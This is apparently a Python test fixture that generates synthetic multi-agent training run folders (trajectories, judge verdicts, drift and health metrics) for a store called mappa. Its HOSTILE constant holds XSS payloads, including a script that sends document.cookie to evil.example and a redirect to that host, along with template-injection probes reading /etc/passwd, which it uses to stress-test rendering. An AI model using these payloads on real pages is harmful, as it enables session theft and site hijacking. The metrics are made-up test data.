"""Run folders of any length, as a store records them: hostile text, twelve turns, ensembles, failures, hand-offs.

Everything is drawn from a seed by way of the store's own writer, so a long run is a short one that went on.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from random import Random

import numpy as np

from mappa.store.agent_columns import AgentSummary
from mappa.store.folder import RunFolder
from mappa.store.iteration_report import CoachFigures, HealthWarning, IterationReport, OutcomeFigures, VerdictCount
from mappa.store.summary import CoachSummary, EvalSummary, Seconds, StratumSummary, Summary, write_summary
from mappa_core.protocols import Alarm, DriftReport, Gap
from mappa_core.records import (
    Breach,
    Completion,
    Failure,
    FileChange,
    Inspection,
    Interval,
    Message,
    Step,
    Task,
    ToolCall,
    ToolResult,
    Trajectory,
    Usage,
    Verdict,
    VersionSpan,
)

AGENTS = ("planner", "coder", "checker")
STRATA = ("classification", "regression", 'odd "<i>stratum</i>" & co')
TURNS = 12
ROLLOUTS = 64
"""Trajectories of one iteration."""
SYSTEM = "You are one of three agents. Plan, write code, check what came out, and hand on files. " * 6
HOSTILE = (
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    "</pre></details></main><h1>taken over</h1><style>*{display:none}</style>",
    '"><img src=x onerror=alert(1)> <svg onload=alert(2)> <a href="javascript:alert(3)">here</a>',
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "\u202eright to left\u202c \x1b[31mred\x1b[0m \x00 nul \ud800 alone \ufeff",
    "x" * 400 + " Z" + "\u0301" * 60,
    "<!-- --><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
)
_VOCABULARY = """
    table column price region mean fold split train predict missing value outlier scale join merge group rows leak
    target label fit forest boost linear error metric score file read write check plan step answer
"""
WORDS = _VOCABULARY.split()


def fill(root: Path, name: str, steps: int, *, seed: int = 0, done: Callable[[int], None] | None = None) -> Path:
    """A run of at least `steps` steps in whole iterations, or of less than one where that is enough; its folder."""
    config = f"seed: {seed}\ntrain: {{iterations: {max(1, steps // (ROLLOUTS * TURNS))}}}\n"
    with RunFolder.create(root, name, plugin="bench", recipe="hostile", config=config) as folder:
        written, iteration = 0, 0
        while written < steps:
            for trajectory in iteration_of(seed, iteration, min(ROLLOUTS, -(-(steps - written) // TURNS))):
                record(folder, trajectory)
                written += len(trajectory.steps)
            iteration += 1
            _close_iteration(folder, seed, iteration)
            if done is not None:
                done(written)
        write_summary(folder.path, _summary(seed, iteration, written))
        return folder.path


def record(folder: RunFolder, trajectory: Trajectory, *, split: str = "train") -> None:
    """Write one as it happens: each step, then its verdicts, then the end."""
    folder.store.begin_trajectory(split, trajectory.id, trajectory.task, trajectory.sample, trajectory.iteration)
    by_step: dict[str, list[Verdict]] = {}
    for verdict in trajectory.verdicts:
        by_step.setdefault(verdict.step, []).append(verdict)
    for step in trajectory.steps:
        folder.store.record_step(trajectory.id, step)
        for verdict in by_step.get(step.id, ()):
            folder.store.record_verdict(verdict)
    folder.store.end_trajectory(trajectory)


def iteration_of(seed: int, iteration: int, rollouts: int = ROLLOUTS) -> Iterator[Trajectory]:
    """The trajectories of an iteration."""
    for number in range(rollouts):
        yield trajectory(seed, iteration, number)


def trajectory(seed: int, iteration: int, number: int) -> Trajectory:
    random = Random(f"{seed}/{iteration}/{number}")
    identity = f"{iteration:05d}/task <{number}>?&#/0"
    task = Task(
        id=f"task <{number}>?&#",
        prompt=f"{random.choice(HOSTILE)}\n{_prose(random, 120)}",
        reference=f"the truth of {number}: {random.choice(HOSTILE)}",
        stratum=STRATA[number % len(STRATA)],
        cluster=f"set{number % 8}",
    )
    failure = None
    if number % 13 == 5:
        kind = random.choice(("ToolError", "WorkflowError:KeyError"))
        failure = Failure(kind=kind, message=f"lost: {random.choice(HOSTILE)}")
    steps, heard = [], [Message(role="user", content=task.prompt)]
    for position in range(5 if failure else TURNS):
        steps.append(_step(random, identity, position, tuple(heard)))
        heard.append(replace(steps[-1].reply, reasoning=None))
    solved = random.random() < 0.3 + 0.4 * (1 - 1 / (1 + iteration / 20))
    verdicts = [verdict for step in steps for verdict in _verdicts(random, step, solved)]
    return Trajectory(
        id=identity,
        task=task,
        sample=0,
        iteration=iteration,
        steps=tuple(steps),
        verdicts=tuple(verdicts),
        outcome={} if failure else {"correct": float(solved), "fair": random.random()},
        error=failure,
        seconds=random.uniform(5, 50),
    )


def _step(random: Random, trajectory: str, position: int, heard: tuple[Message, ...]) -> Step:
    agent, turn = AGENTS[position % 3], position // 3
    code = f"import pandas as pd\nframe = pd.read_csv('part{position - 1}.csv')\nprint({random.choice(HOSTILE)!r})"
    text = f"{_prose(random, 60)}\n{random.choice(HOSTILE)}\n```python\n{code}\n```"
    size = random.randint(60, 160)
    draw = np.random.default_rng(random.randrange(2**32))
    breaks = random.random() < 0.1
    return Step(
        id=f"{trajectory}/{position}",
        agent=agent,
        turn=turn,
        position=position,
        policy=agent,
        messages=(Message(role="system", content=SYSTEM), *heard),
        reply=Message(role="assistant", content=text, reasoning=_prose(random, 40)),
        completion=Completion(
            text=text,
            prompt_tokens=draw.integers(0, 30_000, 200, dtype=np.int32),
            tokens=draw.integers(0, 30_000, size, dtype=np.int32),
            logprobs=-draw.random(size, dtype=np.float32),
            finish="length" if random.random() < 0.1 else "stop",
            versions=(VersionSpan(version=0, start=0, end=size),),
            seconds=random.uniform(0.2, 3.0),
        ),
        tools=("python",),
        files=("data.csv", *(f"part{n}.csv" for n in range(position))),
        calls=(ToolCall(name="python", arguments={"code": code}),),
        results=(
            ToolResult(
                tool="python",
                status="error" if random.random() < 0.2 else "ok",
                exit_code=0,
                stdout=f"{_prose(random, 30)} {random.choice(HOSTILE)}",
                stderr="" if random.random() < 0.7 else f"Traceback: KeyError: {random.choice(WORDS)!r}",
                files=(FileChange(path=f"part{position}.csv", kind="created", size=size * 90, sha256="ab" * 32),),
                seconds=random.uniform(0.01, 2.0),
                sandbox="bubblewrap",
            ),
        ),
        breaches=(Breach(agent=agent, kind="missing_input", path="clean.csv", detail=HOSTILE[0]),) if breaks else (),
        inspection=Inspection(over=False, findings=("part.csv has 90 rows.",)),
        strata={"task": "all"},
    )


def _verdicts(random: Random, step: Step, solved: bool) -> Iterator[Verdict]:
    if random.random() < 0.04:
        status, said = random.choice((("failed", "TimeoutError: no verdict within 60 s"), ("abstained", HOSTILE[1])))
        lone = Verdict.failed(said) if status == "failed" else Verdict.abstained(said)
        yield replace(lone, id=f"{step.id}/panel/live/0", step=step.id, coach="panel", seconds=60.0)
        return
    points = [min(10.0, max(0.0, random.gauss(6.5 if solved else 4.0, 2.0))) for _ in range(3)]
    members = tuple(
        Verdict(status="scored", score=point, reasoning=_prose(random, 15), coach=f"judge{n}", model=f"model-{n}")
        for n, point in enumerate(points)
    )
    raw = sum(points) / len(points)
    yield Verdict(
        status="scored",
        score=min(10.0, raw + 0.4),
        raw_score=raw,
        reasoning=f"{_prose(random, 25)} {random.choice(HOSTILE)}",
        blame=random.choice((None, "nobody", *AGENTS)),
        correction=None if random.random() < 0.9 else _prose(random, 40),
        members=members,
        usage=Usage(calls=3, prompt_tokens=2400, completion_tokens=300, usd=0.0021),
        question="c0ffee" * 5,
        model="model-0, model-1, model-2",
        id=f"{step.id}/panel/live/0",
        step=step.id,
        coach="panel",
        seconds=random.lognormvariate(0.5, 0.6),
    )


def _prose(random: Random, words: int) -> str:
    return " ".join(random.choices(WORDS, k=words))


def _close_iteration(folder: RunFolder, seed: int, done: int) -> None:
    random = Random(f"{seed}/metrics/{done}")
    folder.store.record_iteration(_report(random, done))
    if done % 10 == 1:
        mean = 0.3 + 0.4 * (1 - 1 / (1 + done / 20))
        found = Interval(mean=mean, low=mean - 0.08, high=mean + 0.08)
        folder.store.record_event(
            "evaluation", part="all", iteration=done, metric="correct", interval=found, figures={}
        )
    if done % 25 == 2:
        gap = Gap(
            phase="live", agent="coder", stratifier="task", stratum="regression", against="the others",
            actions=(900, 1800), points=Interval(mean=0.9, low=0.4, high=1.4), growth=Interval(mean=0.02), now=1.1,
        )  # fmt: skip
        folder.store.record_event("drift", iteration=done, alarms=(Alarm(kind="level", gap=gap),))
        warning = HealthWarning(
            rule="entropy", policy="coder", value=0.2, limit=0.3, says="entropy is 20% of what it was", do="lower it"
        )
        folder.store.record_event("health", iteration=done, warnings=(warning,))


def _report(random: Random, done: int) -> IterationReport:
    level = 0.3 + 0.4 * (1 - 1 / (1 + done / 20))
    usage = Usage(calls=2200, prompt_tokens=1_800_000, completion_tokens=220_000, usd=1.55)
    total = VerdictCount(scored=730, abstained=14, failed=16, usage=usage)
    return IterationReport(
        iteration=done,
        outcomes=OutcomeFigures(accuracy=level + random.gauss(0, 0.05), figures={"fair": level / 2}),
        strata={stratum: OutcomeFigures(accuracy=level + random.gauss(0, 0.08)) for stratum in STRATA},
        rollouts=ROLLOUTS,
        failed_rollouts={"ToolError": 2, "WorkflowError:KeyError": 3},
        tool_retries=1,
        tokens=84_000,
        agents={
            agent: AgentSummary(
                score=4 + 2 * level + number + random.gauss(0, 0.2),
                tool_success=0.8,
                turns=4.0,
                length=90 + done / 10 + random.gauss(0, 4),
            )
            for number, agent in enumerate(AGENTS)
        },
        coach=CoachFigures(
            total=total,
            by_agent={agent: VerdictCount(scored=240, failed=random.randint(0, 9)) for agent in AGENTS},
            by_coach={"panel": total},
        ),
        drift=DriftReport(gaps=tuple(_gap(random, agent, stratum, done) for agent in AGENTS for stratum in STRATA)),
        policies={agent: _policy(random, done) for agent in AGENTS},
        seconds={"collect": 61.0, "update": 22.0, "score": 4.0},
    )


def _gap(random: Random, agent: str, stratum: str, done: int) -> Gap:
    mean, reach = random.gauss(0.3, 0.05), 2 / done**0.5
    points = Interval(mean=mean, low=mean - reach, high=mean + reach)
    return Gap(
        phase="live", agent=agent, stratifier="task", stratum=stratum, against="the rest",
        actions=(900, 1800), points=points,
    )  # fmt: skip


def _policy(random: Random, done: int) -> dict[str, float]:
    return {
        "loss": 0.01, "grad_norm": random.lognormvariate(-1, 0.3), "lr": 1e-5, "tokens": 28_000, "rows": 250,
        "mismatch_max": random.uniform(0, 0.2), "mismatch_mean": 0.003, "mismatch_kl": 1e-5, "ess": 0.97,
        "entropy": 0.3 + 0.5 / (1 + done / 30) + random.gauss(0, 0.01), "kl": done / 4000, "clip_share": 0.02,
        "reward_std": 1.8, "equal_groups": 0.1, "ratio_mean": 1.0,
    }  # fmt: skip


def _summary(seed: int, iterations: int, steps: int) -> Summary:
    before, after = Interval(mean=0.3, low=0.22, high=0.39), Interval(mean=0.61, low=0.52, high=0.7)
    gain = Interval(mean=0.31, low=0.2, high=0.42)
    return Summary(
        plugin="bench",
        recipe="hostile",
        recipe_hash="0" * 64,
        seed=seed,
        status="done",
        iterations=iterations,
        eval=EvalSummary(
            metric="correct",
            n=120,
            clusters=8,
            before=before,
            after=after,
            gain=gain,
            strata={stratum: StratumSummary(n=40, before=before, after=after, gain=gain) for stratum in STRATA},
        ),
        agents={agent: AgentSummary(score=6.1, tool_success=0.8, turns=4.0, length=96.0) for agent in AGENTS},
        coach=CoachSummary(verdicts=steps, failed=steps // 50, usd=steps * 0.0021),
        seconds=Seconds(wall=steps / 9.0, cpu=steps / 12.0),
    )
